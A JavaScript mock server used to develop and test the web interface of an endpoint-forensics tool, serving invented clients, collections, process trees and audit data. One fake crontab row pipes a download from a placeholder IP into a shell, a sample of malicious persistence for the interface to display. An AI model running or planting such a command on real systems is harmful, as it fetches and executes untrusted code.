// A stand-in for the server, for developing and testing the GUI: the REST and push contract over made-up data.
// It is not part of the build. `createMock()` gives a node:http server; `dev.mjs` and `e2e/` start it.

import { createReadStream, existsSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import { extname, join, normalize } from 'node:path';
import { createGzip, gzipSync } from 'node:zlib';
import { answerOf, checkAnswer } from './contract.mjs';
import { ARTIFACTS, fileRows, iso, makeClients, makeProcesses, NOW, pstreeRows } from './data.mjs';

const CSP = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; font-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
const TYPES = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml', '.woff2': 'font/woff2' };

/** With `growEveryMs: null` collections bring rows when `grow` is called, and only then. */
export function createMock({ processes = 5000, files = 10_000, clients = 320, dist = null, growEveryMs = 700, eventsEveryMs = 0 } = {}) {
  const state = {
    clients: makeClients(clients),
    sessions: new Map(),
    streams: new Set(),
    eventId: 1,
    tables: new Map(),
    flows: [],
    audit: [],
    monitoring: { artifacts: [{ artifact: 'Generic.Client.Stats', parameters: { Frequency: '30' } }], label_events: [{ label: 'production', artifacts: [{ artifact: 'Linux.Events.ProcessExecutions', parameters: {} }] }] },
    timers: new Set(),
    /** One step of each collection that still brings rows. */
    growing: new Set(),
  };
  const first = state.clients[0];
  const tree = makeProcesses(processes);
  const flowOf = (flow_id, artifacts, stateName, created, rows, more = {}) => ({ ...answerOf('GET clients/:id/flows/:flow'), flow_id, client_id: first.client_id, artifacts, state: stateName, status: null, creator: 'jana', created: iso(created), started: iso(created + 800), last_active: iso(created + 5200), finished_at: stateName === 'finished' || stateName === 'error' ? iso(created + 5200) : null, duration_ms: 4400, rows, logs: 6, uploaded_files: 0, uploaded_bytes: 0, sources: artifacts.map((name) => ({ name, rows })), urgent: false, request: { artifacts: artifacts.map((artifact) => ({ artifact, parameters: {} })), timeout: 600 }, limits: { ...answerOf('GET clients/:id/flows/:flow').limits, timeout: 600, max_rows: 1_000_000, max_upload_bytes: 1_048_576_000 }, query_stats: [], ...more });
  const logs = (flow, count) => ({ columns: [{ name: 'client_time', type: 'number' }, { name: 'level', type: 'log_level' }, { name: 'message' }], rows: Array.from({ length: count }, (_, at) => [Math.floor((NOW - 60e3 + at * 10e3) / 1000), ['INFO', 'DEBUG', 'INFO', 'WARN', 'INFO', 'ERROR'][at % 6], ['starting query execution', 'file accessor: opened /home', 'progress: 2,048 rows', 'glob: permission denied on `/root/.ssh`', 'query finished in 4.4 s', 'upload: file vanished while reading `/tmp/.x`'][at % 6]]) });
  const tableKey = (flow, source) => `${flow.client_id}/${flow.flow_id}/${source}`;
  const put = (flow, source, table) => state.tables.set(tableKey(flow, source), table);

  const pstree = flowOf('F.D1PSTREE00001', ['Generic.System.Pstree'], 'finished', NOW - 900e3, tree.length);
  put(pstree, 'Generic.System.Pstree', pstreeRows(tree));
  const finder = flowOf('F.D1FINDER00002', ['Linux.Search.FileFinder'], 'finished', NOW - 5400e3, files, { uploaded_files: 12, uploaded_bytes: 48_300_112, request: { artifacts: [{ artifact: 'Linux.Search.FileFinder', parameters: { SearchFilesGlob: '/home/**', CalculateHash: 'Y' } }], timeout: 1800 } });
  put(finder, 'Linux.Search.FileFinder', fileRows(files));
  const failed = flowOf('F.D1CRON0000003', ['Linux.Sys.Crontab'], 'error', NOW - 9000e3, 3, { status: 'the query ran past its time limit of 600 s; raise the limit or narrow the glob', sources: [{ name: 'Linux.Sys.Crontab/CronTabs', rows: 3 }, { name: 'Linux.Sys.Crontab/CronScripts', rows: 0 }] });
  put(failed, 'Linux.Sys.Crontab/CronTabs', { columns: [{ name: 'Minute' }, { name: 'Hour' }, { name: 'Command' }, { name: 'Path' }], rows: [['17', '*', 'cd / && run-parts --report /etc/cron.hourly', '/etc/crontab'], ['25', '6', 'test -x /usr/sbin/anacron', '/etc/crontab'], ['*/5', '*', 'curl -s http://198.51.100.23/j | sh', '/var/spool/cron/crontabs/deploy']] });
  const info = flowOf('F.BN2HP3OMINFO', ['Generic.Client.Info'], 'finished', NOW - 86400e3, 9, { creator: 'InterrogationService', sources: [{ name: 'Generic.Client.Info/BasicInformation', rows: 1 }, { name: 'Generic.Client.Info/Users', rows: 4 }] });
  const named = (...names) => names.map((name) => ({ name }));
  const firstPage = { total: 1, offset: 0, complete: true };
  const interrogation = {
    flow_id: info.flow_id,
    finished_at: info.finished_at,
    tables: [
      { ...firstPage, name: 'Generic.Client.Info/BasicInformation', columns: named('Name', 'BuildTime', 'Version', 'Hostname', 'OS', 'Architecture', 'Platform', 'PlatformVersion', 'KernelVersion', 'Fqdn', 'MACAddresses'), rows: [['peregrine', '2026-11-20T09:12:44Z', '0.1.0', first.hostname, 'linux', 'amd64', 'debian', '13.1', '6.12.48', first.fqdn, first.mac_addresses]] },
      { ...firstPage, name: 'Generic.Client.Info/Users', columns: named('User', 'Uid', 'Gid', 'Homedir', 'Shell'), rows: [['root', 0, 0, '/root', '/bin/bash'], ['deploy', 1000, 1000, '/home/deploy', '/bin/bash'], ['ci', 1001, 1001, '/opt/ci', '/usr/sbin/nologin'], ['www-data', 33, 33, '/var/www', '/usr/sbin/nologin']] },
      { ...firstPage, name: 'Generic.Client.Info/Interfaces', columns: named('Name', 'HardwareAddr', 'MTU', 'Up', 'Addrs'), rows: [['lo', '', 65536, true, ['127.0.0.1/8', '::1/128']], ['eth0', first.mac_addresses[0], 1500, true, first.addresses]] },
    ],
  };
  info.sources.forEach((source, index) => put(info, source.name, interrogation.tables[index]));
  const secret = flowOf('F.D1SECRET00004', ['Generic.Network.Share'], 'finished', NOW - 86400e3 * 40, 0, { request: { artifacts: [{ artifact: 'Generic.Network.Share', parameters: { Share: '//files/cases', Password: 'XXXXX' } }] } });
  put(secret, 'Generic.Network.Share', { columns: [], rows: [] });
  state.flows.push(pstree, finder, failed, info, secret);
  for (let index = 0; index < 30; index += 1) {
    const flow = flowOf(`F.D1OLD${String(index).padStart(7, '0')}`, [ARTIFACTS[index % 8].name], 'finished', NOW - 86400e3 * (2 + index), 10 + index * 7, { creator: index % 3 ? 'jana' : 'tomas' });
    put(flow, flow.artifacts[0], { columns: [{ name: 'Key' }, { name: 'Value', type: 'number' }], rows: Array.from({ length: flow.rows }, (_, at) => [`k${at}`, at < 60 ? at : at * 1_234_567]) });
    state.flows.push(flow);
  }
  for (let index = 0; index < 120; index += 1) state.audit.push([iso(NOW - index * 431e3), index % 3 ? 'jana' : 'tomas', ['collect', 'label', 'sign in', 'cancel collection', 'change monitoring'][index % 5], { client_id: first.client_id, artifacts: ['Generic.System.Pstree'] }, '10.0.4.17']);
  const eventTables = {
    'Linux.Events.ProcessExecutions': { columns: [{ name: '_ts', type: 'timestamp' }, { name: 'Time', type: 'timestamp' }, { name: 'Pid', type: 'number' }, { name: 'Ppid', type: 'number' }, { name: 'Exe' }, { name: 'CommandLine' }, { name: 'Username' }], rows: tree.slice(0, 2400).map((p) => [p.start_time, iso(Date.parse(p.start_time) - 340), p.pid, p.ppid, p.exe, p.command_line, p.username]).sort((a, b) => a[0].localeCompare(b[0])) },
    'Generic.Client.Stats': { columns: [{ name: '_ts', type: 'timestamp' }, { name: 'CPU', type: 'number' }, { name: 'RSS', type: 'number' }], rows: Array.from({ length: 900 }, (_, at) => [iso(NOW - (900 - at) * 30e3), 0.4 + (at % 7) / 10, 18_000_000 + (at % 90) * 1000]) },
  };

  function push(kind, data, topics) {
    const id = state.eventId++;
    for (const stream of state.streams) if (topics.some((topic) => stream.topics.has(topic))) stream.response.write(`id: ${id}\nevent: ${kind}\ndata: ${JSON.stringify(data)}\n\n`);
  }
  /** A collection as lists and pushes tell it. */
  const short = ({ limits, query_stats, request, uploads, ...flow }) => (void [limits, query_stats, request, uploads], flow);
  const pushFlow = (flow) => push('flow', short(flow), ['flows', `flows:${flow.client_id}`, `flow:${flow.client_id}/${flow.flow_id}`]);

  if (eventsEveryMs > 0) {
    const name = 'Linux.Events.ProcessExecutions';
    let pid = 900_000;
    state.timers.add(
      setInterval(() => {
        const { rows } = eventTables[name];
        pid += 1;
        rows.push([iso(Date.now()), iso(Date.now() - 340), pid, 1, '/usr/bin/late', `late ${pid}`, 'root']);
        push('rows', { client_id: first.client_id, flow_id: 'F.Monitoring', source: name, total_rows: rows.length }, [`flow:${first.client_id}/F.Monitoring`]);
      }, eventsEveryMs),
    );
  }

  /** A collection that produces rows, a part of them at each step. */
  function produce(flow, table, batches, each) {
    const source = flow.sources[0];
    put(flow, source.name, { columns: table.columns, rows: [] });
    let batch = 0;
    const step = () => {
      if (flow.state === 'cancelled') return stop();
      if (batch === 0) Object.assign(flow, { state: 'in_progress', started: iso(Date.now()) });
      const target = state.tables.get(tableKey(flow, source.name));
      target.rows.push(...table.rows.slice(batch * each, (batch + 1) * each));
      batch += 1;
      source.rows = flow.rows = target.rows.length;
      flow.last_active = iso(Date.now());
      flow.duration_ms = Date.now() - Date.parse(flow.started);
      if (batch >= batches) {
        Object.assign(flow, { state: 'finished', finished_at: iso(Date.now()) });
        stop();
      }
      push('rows', { client_id: flow.client_id, flow_id: flow.flow_id, source: source.name, total_rows: source.rows }, [`flow:${flow.client_id}/${flow.flow_id}`]);
      pushFlow(flow);
    };
    const timer = growEveryMs === null ? null : setInterval(step, growEveryMs);
    const stop = () => {
      clearInterval(timer);
      state.timers.delete(timer);
      state.growing.delete(step);
    };
    state.timers.add(timer);
    state.growing.add(step);
  }
  /** So many steps of every collection that still brings rows. */
  const grow = (steps = 1) => {
    for (let taken = 0; taken < steps; taken += 1) for (const step of [...state.growing]) step();
  };

  const presence = setInterval(() => {
    const client = state.clients[1 + Math.floor(Math.random() * 20)];
    client.online = !client.online;
    client.last_seen = iso(Date.now());
    push('client', client, ['clients', `client:${client.client_id}`]);
  }, 4000);
  const heartbeat = setInterval(() => {
    for (const stream of state.streams) stream.response.write(': alive\n\n');
  }, 15000);
  state.timers.add(presence).add(heartbeat);

  const compare = { lt: (a, b) => a < b, le: (a, b) => a <= b, gt: (a, b) => a > b, ge: (a, b) => a >= b };
  const text = (value) => (value === null || value === undefined ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value));
  /** Cells that are times are compared as such, as the server does. */
  const moment = (value) => (typeof value === 'number' ? value * 1e3 : Date.parse(value));
  function test(cell, { op, value }) {
    if (op in compare && typeof value === 'string' && /^\d{4}-\d\d-\d\dT.*Z$/.test(value)) return cell !== null && compare[op](moment(cell), moment(value));
    if (op === 'contains') return text(cell).toLowerCase().includes(text(value).toLowerCase());
    if (op === 'not_contains') return !text(cell).toLowerCase().includes(text(value).toLowerCase());
    if (op === 'eq') return JSON.stringify(cell) === JSON.stringify(value);
    if (op === 'ne') return JSON.stringify(cell) !== JSON.stringify(value);
    if (op === 'regex') return new RegExp(value, 'i').test(text(cell));
    if (op === 'not_regex') return !new RegExp(value, 'i').test(text(cell));
    if (op === 'is_null') return cell === null;
    if (op === 'not_null') return cell !== null;
    if (op === 'in') return value.map(text).includes(text(cell));
    return cell !== null && compare[op](cell, value);
  }
  function narrow(table, query) {
    const filters = JSON.parse(query.get('filter') ?? '[]');
    let rows = table.rows;
    for (const filter of filters) {
      const at = table.columns.findIndex((column) => column.name === filter.column);
      rows = rows.filter((row) => (filter.column === '*' ? row.some((cell) => test(cell, filter)) : test(row[at] ?? null, filter)));
    }
    const sort = query.get('sort');
    if (sort) {
      const at = table.columns.findIndex((column) => column.name === sort);
      const sign = query.get('desc') === 'true' ? -1 : 1;
      rows = [...rows].sort((a, b) => sign * (typeof a[at] === 'number' && typeof b[at] === 'number' ? a[at] - b[at] : text(a[at]).localeCompare(text(b[at]))));
    }
    return rows;
  }
  function page(table, query, complete = true) {
    const rows = narrow(table, query);
    const offset = Number(query.get('offset') ?? 0);
    return { columns: table.columns, total: rows.length, offset, rows: rows.slice(offset, offset + Number(query.get('limit') ?? 200)), complete };
  }
  function facets(table, query) {
    const rows = narrow(table, query);
    const at = table.columns.findIndex((column) => column.name === query.get('column'));
    const counts = new Map();
    for (const row of rows) counts.set(JSON.stringify(row[at] ?? null), (counts.get(JSON.stringify(row[at] ?? null)) ?? 0) + 1);
    const values = [...counts].sort((a, b) => b[1] - a[1]).slice(0, 1000).map(([value, count]) => ({ value: JSON.parse(value), count }));
    return { values, distinct: counts.size, total: rows.length };
  }
  const EMPTY = { columns: [], rows: [] };

  class Refused extends Error {
    constructor(status, code, message, detail = null, headers = {}) {
      super(message);
      Object.assign(this, { status, code, detail, headers });
    }
  }
  const clientOf = (id) => state.clients.find((client) => client.client_id === id) ?? fail(404, 'not_found', `client \`${id}\` not found`);
  const fail = (...why) => {
    throw new Refused(...why);
  };
  const vqlText = (body, id) => `SELECT collect_client(\n    client_id='${id ?? 'C.…'}',\n    artifacts=[${body.artifacts.map((each) => `'${each.artifact}'`).join(', ')}],\n    spec=dict(${body.artifacts.map((each) => `\`${each.artifact}\`=dict(${Object.entries(each.parameters ?? {}).map(([name, value]) => `${name}='${value}'`).join(', ')})`).join(',\n      ')}))\nFROM scope()`;

  const userOf = (name) => ({ ...answerOf('GET session').user, name });
  let failures = 0;
  const routes = [
    ['POST', 'session', ({ body, response }) => {
      if (body.password !== 'peregrine') {
        failures += 1;
        fail(failures > 4 ? 429 : 401, failures > 4 ? 'throttled' : 'bad_credentials', 'bad user name or password', null, failures > 4 ? { 'Retry-After': '30' } : {});
      }
      failures = 0;
      const id = Math.random().toString(36).slice(2);
      state.sessions.set(id, { name: body.username, csrf: `csrf-${id}` });
      response.setHeader('Set-Cookie', `peregrine_session=${id}; HttpOnly; SameSite=Strict; Path=/`);
      return { user: userOf(body.username), csrf_token: `csrf-${id}` };
    }],
    ['GET', 'session', ({ session }) => ({ ...answerOf('GET session'), user: userOf(session.name), csrf_token: session.csrf })],
    ['DELETE', 'session', ({ sessionId }) => void state.sessions.delete(sessionId)],
    ['PUT', 'session/password', ({ body }) => void (body.current !== 'peregrine' ? fail(403, 'wrong_password', 'the current password is wrong') : body.new.length < 12 && fail(400, 'weak_password', 'the new password has fewer than 12 characters; use a longer one'))],
    ['GET', 'clients', ({ query }) => {
      const search = (query.get('search') ?? '').trim().toLowerCase();
      let found = state.clients.filter((client) => {
        const [, key, value] = /^(host|label|ip|mac):(.*)$/.exec(search) ?? [null, 'any', search];
        const fields = { host: [client.hostname], label: client.labels, ip: client.addresses, mac: client.mac_addresses, any: [client.hostname, client.client_id.toLowerCase(), ...client.addresses] }[key];
        return fields.some((field) => field.toLowerCase().startsWith(value));
      });
      if (query.get('online')) found = found.filter((client) => String(client.online) === query.get('online'));
      const sort = query.get('sort') ?? 'hostname';
      const sign = query.get('desc') === 'true' ? -1 : 1;
      found = [...found].sort((a, b) => sign * text(a[sort]).localeCompare(text(b[sort])));
      const offset = Number(query.get('offset') ?? 0);
      return { total: found.length, clients: found.slice(offset, offset + Number(query.get('limit') ?? 100)) };
    }],
    ['GET', 'clients/:id', ({ id }) => ({ ...clientOf(id), in_flight_flows: state.flows.filter((flow) => flow.client_id === id && !['finished', 'error', 'cancelled'].includes(flow.state)).map((flow) => flow.flow_id) })],
    ['GET', 'clients/:id/interrogation', ({ id }) => (id === first.client_id ? interrogation : { flow_id: null, finished_at: null, tables: [] })],
    ['PUT', 'clients/:id/labels', ({ id, body }) => {
      const client = clientOf(id);
      client.labels = [...new Set([...client.labels, ...(body.add ?? [])])].filter((label) => !(body.remove ?? []).includes(label));
      return client;
    }],
    ['POST', 'clients/:id/interrogate', ({ id, session }) => start(id, { artifacts: [{ artifact: 'Generic.Client.Info', parameters: {} }] }, session)],
    ['GET', 'artifacts', ({ query }) => ({ artifacts: ARTIFACTS.filter((each) => (!query.get('type') || each.type === query.get('type')) && `${each.name} ${each.description}`.toLowerCase().includes((query.get('search') ?? '').toLowerCase())).map(({ raw, ...rest }) => (void raw, rest)) })],
    ['GET', 'artifacts/:artifact', ({ artifact }) => ARTIFACTS.find((each) => each.name === artifact) ?? fail(404, 'not_found', `artifact \`${artifact}\` not found`)],
    ['POST', 'artifacts/compile', ({ body }) => {
      check(body);
      const answer = answerOf('POST artifacts/compile');
      return { ...answer, requests: body.artifacts.map((each) => ({ ...answer.requests[0], statements: [`LET ProcessRegex <= ProcessRegex`, `SELECT * FROM Artifact.${each.artifact}()`], env: each.parameters })), equivalent_vql: vqlText(body), equivalent_api: { method: 'POST', path: '/api/v1/clients/C.…/flows', body } };
    }],
    ['POST', 'clients/:id/flows', ({ id, body, session, response }) => {
      check(body);
      response.statusCode = 201;
      return start(id, body, session);
    }],
    ['GET', 'clients/:id/flows', ({ id, query }) => {
      const search = (query.get('search') ?? '').toLowerCase();
      let flows = state.flows.filter((flow) => flow.client_id === id && `${flow.artifacts} ${flow.flow_id} ${flow.creator}`.toLowerCase().includes(search) && (!query.get('state') || flow.state === query.get('state')));
      const sort = query.get('sort') ?? 'created';
      const sign = query.get('desc') === 'true' ? -1 : 1;
      flows = [...flows].sort((a, b) => sign * (typeof a[sort] === 'number' ? a[sort] - b[sort] : text(a[sort]).localeCompare(text(b[sort]))));
      const offset = Number(query.get('offset') ?? 0);
      return { total: flows.length, flows: flows.slice(offset, offset + Number(query.get('limit') ?? 100)).map(short) };
    }],
    ['GET', 'clients/:id/flows/:flow', ({ id, flow }) => flowBy(id, flow)],
    ['POST', 'clients/:id/flows/:flow/cancel', ({ id, flow, session }) => {
      const found = flowBy(id, flow);
      Object.assign(found, { state: 'cancelled', status: `Cancelled by ${session.name}`, finished_at: iso(Date.now()) });
      pushFlow(found);
      return short(found);
    }],
    ['DELETE', 'clients/:id/flows/:flow', ({ id, flow }) => void state.flows.splice(state.flows.indexOf(flowBy(id, flow)), 1)],
    ['GET', 'clients/:id/flows/:flow/results', ({ id, flow, query }) => {
      const found = flowBy(id, flow);
      return page(state.tables.get(tableKey(found, query.get('source'))) ?? EMPTY, query, found.finished_at !== null);
    }],
    ['GET', 'clients/:id/flows/:flow/results/facets', ({ id, flow, query }) => facets(state.tables.get(tableKey(flowBy(id, flow), query.get('source'))) ?? EMPTY, query)],
    ['GET', 'clients/:id/flows/:flow/results/export', ({ id, flow, query, response }) => {
      const table = state.tables.get(tableKey(flowBy(id, flow), query.get('source'))) ?? EMPTY;
      const names = (query.get('columns') ?? '').split(',').filter(Boolean);
      const at = names.map((name) => table.columns.findIndex((column) => column.name === name));
      const rows = narrow(table, query).map((row) => at.map((index) => row[index] ?? null));
      response.setHeader('Content-Disposition', `attachment; filename="results.${query.get('format')}"`);
      response.setHeader('Content-Type', query.get('format') === 'csv' ? 'text/csv' : 'application/json');
      const csv = (cell) => `"${text(cell).replace(/"/g, '""')}"`;
      response.end(query.get('format') === 'csv' ? [names, ...rows].map((row) => row.map(csv).join(',')).join('\r\n') : JSON.stringify(rows.map((row) => Object.fromEntries(names.map((name, index) => [name, row[index]]))), null, 1));
      return 'sent';
    }],
    ['GET', 'clients/:id/flows/:flow/logs', ({ id, flow, query }) => page(logs(flowBy(id, flow), flowBy(id, flow).logs), query)],
    ['GET', 'clients/:id/process-tree', ({ query }) => {
      const wanted = query.get('process');
      const focus = tree.find((node) => node.id === wanted || String(node.pid) === wanted) ?? fail(404, 'not_found', `process \`${wanted}\` not found`);
      return { root: tree[0].id, focus: focus.id, truncated: false, nodes: tree.map(({ id, parent_id, pid, name, exe, command_line, username, start_time, end_time, exit_code, exited }) => ({ id, parent_id, pid, name, exe, command_line, username, start_time, end_time, exit_code, exited })) };
    }],
    ['GET', 'monitoring/client', () => state.monitoring],
    ['PUT', 'monitoring/client', ({ body }) => (state.monitoring = body)],
    ['GET', 'clients/:id/events', ({ id }) => ({ artifacts: id === first.client_id ? Object.entries(eventTables).map(([name, table]) => ({ name, rows: table.rows.length, first: table.rows[0][0], last: table.rows.at(-1)[0] })) : [] })],
    ['GET', 'clients/:id/events/:artifact', ({ artifact, query }) => {
      const table = eventTables[artifact] ?? EMPTY;
      const [from, to] = [query.get('start') ?? '', query.get('end') ?? '9'];
      return page({ columns: table.columns, rows: table.rows.filter((row) => row[0] >= from && row[0] <= to) }, query, false);
    }],
    ['GET', 'audit', ({ query }) => page({ columns: [{ name: 'time', type: 'timestamp' }, { name: 'principal' }, { name: 'operation' }, { name: 'detail', type: 'json' }, { name: 'ip' }], rows: state.audit }, query, false)],
    ['GET', 'search', ({ query }) => {
      const q = (query.get('q') ?? '').toLowerCase();
      return {
        clients: state.clients.filter((client) => `${client.hostname} ${client.client_id} ${client.addresses}`.toLowerCase().includes(q)).slice(0, 6).map(({ client_id, hostname, online }) => ({ client_id, hostname, online })),
        artifacts: q ? ARTIFACTS.filter((each) => each.name.toLowerCase().includes(q)).slice(0, 8).map(({ name, type, description }) => ({ name, type, description })) : [],
        flows: [...state.flows].sort((a, b) => b.created.localeCompare(a.created)).filter((flow) => `${flow.flow_id} ${flow.artifacts}`.toLowerCase().includes(q)).slice(0, 6).map(short),
      };
    }],
    ['GET', 'server/status', () => {
      const answer = answerOf('GET server/status');
      const online = state.clients.filter((client) => client.online).length;
      const second = Math.floor(online / 3);
      return { ...answer, connected_agents: online, clients: state.clients.length, flows_running: state.flows.filter((flow) => !flow.finished_at).length, rows_stored: 48_210_344, servers: [{ ...answer.servers[0], connected_agents: online - second }, { host: 'server2', started: '2026-01-02T00:00:00Z', connected_agents: second, is_this: false }], refused: { ...answer.refused, malformed: 3, bad_nonce: 17, damaged: 1, conflict: 2, too_many: 1_204, too_slow: 6 } };
    }],
  ];
  function check(body) {
    for (const each of body.artifacts ?? []) {
      const known = ARTIFACTS.find((artifact) => artifact.name === each.artifact) ?? fail(404, 'not_found', `artifact \`${each.artifact}\` not found`);
      for (const [name, value] of Object.entries(each.parameters ?? {})) {
        const parameter = known.parameters.find((item) => item.name === name) ?? fail(400, 'bad_parameter', `\`${known.name}\` has no parameter \`${name}\``, { artifact: known.name, parameter: name, message: 'unknown parameter' });
        if (parameter.type === 'redacted' && value === 'XXXXX') fail(400, 'bad_parameter', `\`${name}\`: its value was hidden when it was stored; type it again`, { artifact: known.name, parameter: name, message: 'its value was hidden when it was stored; type it again' });
        if (parameter.type === 'int' && value !== '' && !/^-?\d+$/.test(value)) fail(400, 'bad_parameter', `\`${name}\` is not a whole number`, { artifact: known.name, parameter: name, message: `\`${value}\` is not a whole number` });
      }
    }
  }
  /** A request as it is stored: secrets are hidden. */
  const shown = (body) => ({ ...body, artifacts: body.artifacts.map((each) => ({ ...each, parameters: Object.fromEntries(Object.entries(each.parameters ?? {}).map(([name, value]) => [name, ARTIFACTS.find((artifact) => artifact.name === each.artifact).parameters.find((parameter) => parameter.name === name)?.type === 'redacted' ? 'XXXXX' : value])) })) });
  function start(id, body, session) {
    const client = clientOf(id);
    const flow = { ...flowOf(`F.D1NEW${String(state.flows.length).padStart(7, '0')}`, body.artifacts.map((each) => each.artifact), 'waiting', Date.now(), 0, { creator: session.name, started: null, request: shown(body), duration_ms: null }), client_id: id };
    state.flows.push(flow);
    pushFlow(flow);
    if (client.online) produce(flow, flow.artifacts[0] === 'Generic.System.Pstree' ? pstreeRows(tree) : fileRows(3000), 12, flow.artifacts[0] === 'Generic.System.Pstree' ? Math.ceil(tree.length / 12) : 250);
    return { flow_id: flow.flow_id };
  }
  const flowBy = (id, flow) => state.flows.find((each) => each.client_id === id && each.flow_id === flow) ?? fail(404, 'not_found', `flow \`${flow}\` not found`);

  function match(pattern, parts) {
    const wanted = pattern.split('/');
    if (wanted.length !== parts.length) return null;
    const found = {};
    for (let index = 0; index < wanted.length; index += 1) {
      if (wanted[index].startsWith(':')) found[wanted[index].slice(1)] = parts[index];
      else if (wanted[index] !== parts[index]) return null;
    }
    return found;
  }
  async function readBody(request) {
    const chunks = [];
    for await (const chunk of request) chunks.push(chunk);
    return chunks.length ? JSON.parse(Buffer.concat(chunks).toString()) : {};
  }
  const packs = (request) => /\bgzip\b/.test(request.headers['accept-encoding'] ?? '');
  function serveFile(pathname, request, response) {
    let file = join(dist, normalize(pathname));
    if (!file.startsWith(dist) || !existsSync(file) || !statSync(file).isFile()) {
      // As the server does: a file of an older version is not there, a route of the application is.
      if (pathname.startsWith('/assets/')) return void response.writeHead(404).end();
      file = join(dist, 'index.html');
    }
    response.setHeader('Content-Type', TYPES[extname(file)] ?? 'application/octet-stream');
    response.setHeader('Content-Security-Policy', CSP);
    response.setHeader('X-Content-Type-Options', 'nosniff');
    if (packs(request) && /\.(html|js|css|svg)$/.test(file)) {
      response.setHeader('Content-Encoding', 'gzip');
      createReadStream(file).pipe(createGzip()).pipe(response);
    } else createReadStream(file).pipe(response);
  }

  const server = createServer(async (request, response) => {
    const url = new URL(request.url, 'http://mock');
    if (!url.pathname.startsWith('/api/v1/')) {
      if (dist) serveFile(url.pathname, request, response);
      else response.writeHead(404).end();
      return;
    }
    try {
      const sessionId = /peregrine_session=(\w+)/.exec(request.headers.cookie ?? '')?.[1];
      const session = state.sessions.get(sessionId);
      const parts = url.pathname.slice('/api/v1/'.length).split('/').map(decodeURIComponent);
      if (parts[0] === 'test-expire-sessions') {
        state.sessions.clear();
        response.end();
        return;
      }
      const anonymous = parts[0] === 'session' && parts.length === 1 && request.method === 'POST';
      if (!session && !anonymous) fail(401, 'not_signed_in', 'sign in first');
      if (request.method !== 'GET' && !anonymous && request.headers['x-csrf-token'] !== session.csrf) fail(403, 'csrf', 'the CSRF token is missing or stale');
      if (parts[0] === 'events' && parts.length === 1) {
        const stream = { response, topics: new Set((url.searchParams.get('topics') ?? '').split(',')) };
        response.writeHead(200, { 'Content-Type': 'text/event-stream', 'Cache-Control': 'no-store' });
        response.write(': hello\n\n');
        state.streams.add(stream);
        request.on('close', () => state.streams.delete(stream));
        return;
      }
      for (const [method, pattern, handler] of routes) {
        const found = method === request.method ? match(pattern, parts) : null;
        if (!found) continue;
        const body = method === 'GET' ? null : await readBody(request);
        const answer = handler({ ...found, query: url.searchParams, body, session, sessionId, response });
        if (answer === 'sent') return;
        if (answer === undefined) response.writeHead(204).end();
        else {
          checkAnswer(`${method} ${pattern}`, answer);
          response.setHeader('Content-Type', 'application/json');
          const text = JSON.stringify(answer);
          if (packs(request)) response.setHeader('Content-Encoding', 'gzip');
          response.end(packs(request) ? gzipSync(text) : text);
        }
        return;
      }
      fail(404, 'not_found', `no method ${request.method} ${url.pathname}`);
    } catch (error) {
      const refused = error instanceof Refused ? error : new Refused(500, 'internal', String(error.stack));
      response.writeHead(refused.status, { 'Content-Type': 'application/json', ...refused.headers });
      response.end(JSON.stringify({ error: { code: refused.code, message: refused.message, detail: refused.detail } }));
    }
  });
  server.on('close', () => {
    for (const timer of state.timers) clearInterval(timer);
  });
  return { server, state, grow, firstClient: first.client_id };
}
